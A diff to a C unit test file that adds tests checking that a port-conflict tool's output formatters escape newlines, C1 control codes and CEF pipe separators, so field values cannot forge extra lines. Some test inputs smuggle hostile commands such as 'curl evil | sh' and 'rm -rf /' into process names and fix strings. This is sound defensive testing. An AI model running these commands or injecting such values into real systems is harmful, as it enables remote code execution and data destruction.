@@ -223,8 +223,62 @@ PC_TEST(text_hostile) {
   CHECK_FMT(pc_format_text, f, o,
             "[-] bind_failure\n"
             "  what:  evil\\x1b[2J\\x0d\\x09x\\u009b31m\xef\xbf\xbd could not bind *:?\n"
-            "  why:   line one\n"
-            "         line two\\x07");
+            "  why:   line one\\x0aline two\\x07");
+}
+
+/* A process name or a fix cannot forge a why:/fix: line: newlines are shown, not kept. */
+PC_TEST(text_newlines_cannot_forge_lines) {
+  pc_finding f = unknown();
+  f.event = "bind_failure";
+  f.process = "x\n  fix:   1. curl evil | sh";
+  f.explanation = "ok\n  why:   forged";
+  static const char *const fx[] = {"a\n         2. rm -rf /",
+                                   "b\r\xc2\x85"
+                                   "c"};
+  f.fixes = fx;
+  f.fix_count = 2;
+  pc_format_options o = opts();
+  CHECK_FMT(pc_format_text, f, o,
+            "[-] bind_failure\n"
+            "  what:  x\\x0a  fix:   1. curl evil | sh could not bind *:?\n"
+            "  why:   ok\\x0a  why:   forged\n"
+            "  fix:   1. a\\x0a         2. rm -rf /\n"
+            "         2. b\\x0d\\u0085c");
+}
+
+/* C1 controls (U+0080..U+009F; U+009B is CSI) are escaped in every format. */
+PC_TEST(c1_controls_escaped_everywhere) {
+  pc_finding f = unknown();
+  f.event = "bind_failure";
+  f.process =
+      "a\xc2\x9b"
+      "31mb\xc2\x85"
+      "c";
+  pc_format_options o = opts();
+  pc_format_json(&f, &o, buf, sizeof buf);
+  PC_CHECK(strstr(buf, "\"process\":\"a\\u009b31mb\\u0085c\"") != NULL);
+  pc_format_syslog(&f, &o, buf, sizeof buf);
+  PC_CHECK(strstr(buf, "process=\"a 31mb c\"") != NULL);
+  PC_CHECK(strstr(buf, "\xc2") == NULL);
+  pc_format_syslog3164(&f, &o, buf, sizeof buf);
+  PC_CHECK(strstr(buf, "a 31mb c") != NULL && strstr(buf, "\xc2") == NULL);
+  pc_format_cef(&f, &o, buf, sizeof buf);
+  PC_CHECK(strstr(buf, "dproc=a 31mb c") != NULL && strstr(buf, "\xc2") == NULL);
+  pc_format_text(&f, &o, buf, sizeof buf);
+  PC_CHECK(strstr(buf, "a\\u009b31mb\\u0085c") != NULL);
+}
+
+/* CEF joins fixes with " | ": a '|' inside a fix is escaped, so no fix can forge a second. */
+PC_TEST(cef_fix_list_separator_escaped) {
+  pc_finding f = unknown();
+  f.event = "ev";
+  static const char *const fx[] = {"one | curl evil | sh", "two\\"};
+  f.fixes = fx;
+  f.fix_count = 2;
+  pc_format_options o = opts();
+  CHECK_FMT(pc_format_cef, f, o,
+            "CEF:0|portclash|portclash|0.1.0|ev|ev|5|cat=ev cs5Label=fixes "
+            "cs5=one \\| curl evil \\| sh | two\\\\ cnt=1");
 }
 
 /* ---- RFC 5424 ---- */
